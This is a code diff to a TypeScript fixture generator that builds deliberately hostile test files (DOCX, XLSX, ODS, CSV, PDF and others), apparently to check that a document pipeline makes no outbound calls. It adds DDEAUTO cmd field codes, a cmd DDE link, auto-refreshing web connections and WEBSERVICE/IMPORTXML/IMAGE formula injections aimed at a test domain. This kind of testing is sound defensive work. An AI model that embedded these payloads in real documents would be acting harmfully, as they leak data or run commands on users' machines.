@@ -24,6 +24,20 @@ export function hostileDocuments(domain: string): Record<string, Buffer> {
   const pdf = makePdf([{ lines: [{ text: `A page that leads to ${at("pdf-text")}` }] }])
     .toString("latin1")
     .replace("/Type /Catalog", `/Type /Catalog /OpenAction << /S /URI /URI (${at("pdf-action")}) >>`)
+  const field = (code: string) =>
+    `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>A field</w:t></w:r></w:fldSimple><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`
+  const fields = [
+    `INCLUDEPICTURE ${at("docx-field")}`,
+    `INCLUDETEXT ${at("docx-text")}`,
+    `DDEAUTO cmd ${at("docx-dde")}`,
+  ]
+  const formulas = ["webservice", "importxml", "image"].map(
+    (name) => `${name.toUpperCase()}("${at(`formula-${name}`)}")`,
+  )
+  const xlsxRow = (row: number, name: string, formula: string) =>
+    `<row r="${row}"><c r="A${row}" t="inlineStr"><is><t>${name}</t></is></c><c r="B${row}"><f>${formula.replaceAll('"', "&quot;")}</f><v>${row}</v></c></row>`
+  const odsRow = (name: string, formula: string) =>
+    `<table:table-row><table:table-cell office:value-type="string"><text:p>${name}</text:p></table:table-cell><table:table-cell table:formula="of:=${formula.replaceAll('"', "&quot;")}" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>`
   return {
     "page.html": Buffer.from(html),
     "drawing.svg": Buffer.from(svg),
@@ -33,7 +47,7 @@ export function hostileDocuments(domain: string): Record<string, Buffer> {
       `# Notes\n\n![](${at("markdown")}) [x](${at("markdown-link")}) <img src="${at("markdown-html")}">`,
     ),
     "page.pdf": Buffer.from(pdf, "latin1"),
-    "letter.docx": docxBytes(paragraph, {
+    "letter.docx": docxBytes(paragraph + fields.map(field).join(""), {
       "word/_rels/document.xml.rels": external("image", at("docx-image")),
       "word/_rels/settings.xml.rels": external("attachedTemplate", at("docx-template")),
       "word/settings.xml": `<w:settings><w:attachedTemplate r:id="rId9"/></w:settings>`,
@@ -42,8 +56,20 @@ export function hostileDocuments(domain: string): Record<string, Buffer> {
       "ppt/slides/_rels/slide1.xml.rels": external("video", at("pptx-video")),
     }),
     "sums.xlsx": xlsxBytes(
-      `<row r="1"><c r="A1" t="inlineStr"><is><t>A sum</t></is></c><c r="B1"><f>WEBSERVICE("${at("xlsx-formula")}")</f><v>1</v></c></row>`,
-      { "xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", at("xlsx-link")) },
+      `<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c><c r="B1" t="inlineStr"><is><t>Sum</t></is></c></row>` +
+        formulas.map((formula, index) => xlsxRow(index + 2, at("xlsx-text"), formula)).join(""),
+      {
+        "xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", at("xlsx-link")),
+        "xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="${at("xlsx-dde")}"/></externalLink>`,
+        "xl/connections.xml": `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="${at("xlsx-query")}"/></connection></connections>`,
+      },
+    ),
+    "sums.ods": openDocumentBytes(
+      "spreadsheet",
+      `<table:table table:name="Sums"><table:table-source xlink:href="${at("ods-source")}"/>${formulas.map((formula) => odsRow(at("ods-text"), formula)).join("")}</table:table>`,
+    ),
+    "sums.csv": Buffer.from(
+      `name,sum\n${formulas.map((formula) => `"=${formula.replaceAll('"', '""')}",1`).join("\n")}\n`,
     ),
     "letter.odt": openDocumentBytes(
       "text",
